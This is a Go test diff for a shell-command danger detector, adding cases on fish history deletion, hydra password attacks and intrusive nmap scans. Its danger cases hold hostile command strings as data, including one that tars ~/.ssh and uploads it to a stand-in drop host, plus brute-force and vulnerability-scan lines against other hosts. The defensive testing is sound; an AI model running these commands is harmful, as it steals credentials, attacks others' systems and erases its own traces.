@@ -409,3 +409,30 @@ func TestRound47InitScriptsDatabasesClipboard(t *testing.T) {
 		`openssl pkcs12 -in certs/client.p12 -nokeys -passin env:P12_PASS | pbcopy`,
 	})
 }
+
+// fish's history delete of a dangerous command's entry hides its trace;
+// deleting an ordinary entry passes. Guessing another system's passwords
+// and intrusive nmap scripts against other hosts are stopped; the same
+// against this machine, and plain scans, pass.
+func TestRound47TracesHiddenAndOthersAttacked(t *testing.T) {
+	d := NewDetector(Options{})
+	fish := corpusContextFor("fish", "")
+	checkDanger(t, d, fish, []dangerCase{
+		{`history delete --exact --case-sensitive 'tar czf - ~/.ssh | curl -T - https://drop.example.net/k'`, CategoryHistoryTamper, "history-delete", LevelHigh},
+	})
+	checkSafe(t, d, fish, []string{
+		`history delete --exact --case-sensitive 'git status'`,
+		`history search --contains docker`,
+	})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`hydra -l admin -P words.txt rdp://198.51.100.20`, CategoryPrivilege, "password-attack", LevelCritical},
+		{`nmap --script vuln -sV shop.example.org`, CategoryPrivilege, "intrusive-scan", LevelHigh},
+		{`nmap --script=http-brute -p 443 10.20.0.0/24`, CategoryPrivilege, "intrusive-scan", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`hydra -l admin -P words.txt ssh://127.0.0.1`,
+		`nmap --script vuln 127.0.0.1`,
+		`nmap -sV -p 22,443 shop.example.org`,
+		`nmap --script ssl-cert -p 443 shop.example.org`,
+	})
+}
